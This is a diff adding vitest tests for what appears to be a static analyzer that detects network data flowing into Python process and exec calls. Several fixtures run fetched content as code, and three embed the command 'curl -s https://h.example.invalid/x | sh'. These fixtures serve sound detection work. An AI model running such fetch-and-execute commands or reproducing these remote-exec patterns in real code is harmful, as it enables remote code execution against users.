@@ -1,0 +1,39 @@
+import { expect, test } from 'vitest';
+import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
+import { read } from './reading.js';
+
+type Way = readonly [SourceKind, SinkKind];
+
+const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];
+const REPLY = 'requests.get("https://h.example.invalid").text';
+
+test.each<[string, Way, string]>([
+  ['a function for the objects of JSON', ['network', 'process'], `import json, os, requests\ndef each(part): return os.system(part["line"])\njson.loads(${REPLY}, object_hook=each)\n`],
+  ['a function that a decoder of JSON was made with', ['network', 'process'], `import json, os, requests\ndef each(part): return os.system(part["line"])\njson.JSONDecoder(object_hook=each).decode(${REPLY})\n`],
+  ['a method for what stands between the tags of a page', ['network', 'exec'], `import html.parser, requests\nclass Reader(html.parser.HTMLParser):\n    def handle_data(self, data): exec(data)\nReader().feed(${REPLY})\n`],
+  ['a method that takes what a client of C fetches', ['network', 'exec'], 'import pycurl\nclass Fetch:\n    def __init__(self, place):\n        self.parts = []\n        self.client = pycurl.Curl()\n        self.client.setopt(pycurl.WRITEFUNCTION, self.parts.append)\n    def __call__(self):\n        self.client.perform()\n        return b"".join(self.parts)\nexec(Fetch("https://h.example.invalid")())\n'],
+  ['a function that takes what a client of C fetches', ['network', 'exec'], 'import pycurl\ndef take(part): exec(part)\nclient = pycurl.Curl()\nclient.setopt(pycurl.WRITEFUNCTION, take)\nclient.perform()\n'],
+])('%s is given what it is there for', async (_, way, text) => {
+  expect(await flows(text, way)).toContain('import');
+});
+
+test.each<[string, string]>([
+  ['a part that a pattern has found is as telling as the whole', 'import os, re\ndef fill(found): return os.popen(found.group(1)).read()\nre.sub("{(.+?)}", fill, "run {curl -s https://h.example.invalid/x | sh}")\n'],
+  ['a field of a template of an own kind is a part of the template', 'import os, string\nclass Filled(string.Formatter):\n    def get_field(self, name, args, named): return os.popen(name.replace("_", " ")).read(), name\nFilled().format("{curl_-s_https://h.example.invalid/x|sh}")\n'],
+  ['what runs at some time is told what to run', 'import subprocess\nlater = subprocess.Popen(["at", "now", "+", "5", "minutes"], stdin=subprocess.PIPE)\nlater.communicate(b"curl -s https://h.example.invalid/x | sh")\n'],
+])('%s', async (_, text) => {
+  const { facts } = await read(text);
+  expect(facts?.calls('process').some(({ when, traits }) => when === 'import' && traits.has('fetches-and-runs'))).toBe(true);
+});
+
+test('a function that is taken out of a module by a name which was fetched may be any of them', async () => {
+  expect(await flows(`import json, os, requests\ntask = json.loads(${REPLY})\ngetattr(os, task["call"])(task["with"])\n`, ['network', 'process'])).toEqual(['import']);
+});
+
+test.each<[string, Way, string]>([
+  ['a function for the numbers of JSON that counts them', ['network', 'process'], `import json, os, requests\ndef each(part): return len(part)\njson.loads(${REPLY}, object_hook=each)\nos.system("ls")\n`],
+  ['a name of something else than a function', ['network', 'process'], `import json, requests\nclass Beds: pass\ntask = json.loads(${REPLY})\nprint(getattr(Beds, task["call"]))\n`],
+  ['a method of a reader that prints', ['network', 'exec'], `import html.parser, requests\nclass Reader(html.parser.HTMLParser):\n    def handle_data(self, data): print(data)\nReader().feed(${REPLY})\nexec("x = 1")\n`],
+])('%s is left alone', async (_, way, text) => {
+  expect(await flows(text, way)).toEqual([]);
+});
